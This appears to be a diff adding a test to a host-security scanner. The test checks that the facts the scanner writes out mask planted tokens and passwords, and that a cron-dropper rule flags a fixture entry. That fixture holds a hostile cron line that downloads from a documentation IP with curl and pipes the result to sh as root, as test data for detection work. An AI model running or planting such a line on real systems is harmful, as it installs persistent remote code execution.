@@ -4,6 +4,7 @@ fast on hostile lines; the real Debian root and the clean example give no FAIL."
 
 from __future__ import annotations
 
+import json
 import time
 from pathlib import Path
 from types import SimpleNamespace
@@ -277,6 +278,27 @@ def test_messages_mask_credentials_and_payloads() -> None:
     ):
         assert excerpt(text) == shown
     assert excerpt("x" * 500).endswith("…") and len(excerpt("x y" * 200)) == 120
+
+
+def test_facts_json_masks_the_credentials_the_checks_still_read(tmp_path: Path) -> None:
+    # A token exported from a start-up file, a password in a cron download: the checks get the
+    # line whole (the shapes need it), the facts written out never carry the secret.
+    token = "ghp_" + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"
+    root = write_tree({
+        "/etc/passwd": PASSWD,
+        "/root/.bashrc": f"export GITHUB_TOKEN={token}\nexport DB_PASSWORD=hunter2secret\n",
+        "/etc/cron.d/fetch": "*/5 * * * * root curl -u bob:S3cretPw http://192.0.2.1/x | sh\n",
+    }, tmp_path / "root")
+    facts = facts_of(root)
+    assert facts.persistence is not None
+    assert any(token in e.text for e in facts.persistence.entries)
+    written = json.dumps(facts.to_json())
+    for secret in (token, "hunter2secret", "S3cretPw"):
+        assert secret not in written
+    assert "curl -u *** http://192.0.2.1/x | sh" in written
+    assert "/etc/cron.d/fetch" in written
+    dropper = [f for f in run_rule("malware_cron_dropper", facts) if f.status is Status.FAIL]
+    assert dropper and all("S3cretPw" not in f.message for f in dropper)
 
 
 def facts_of(root: Path) -> Facts:
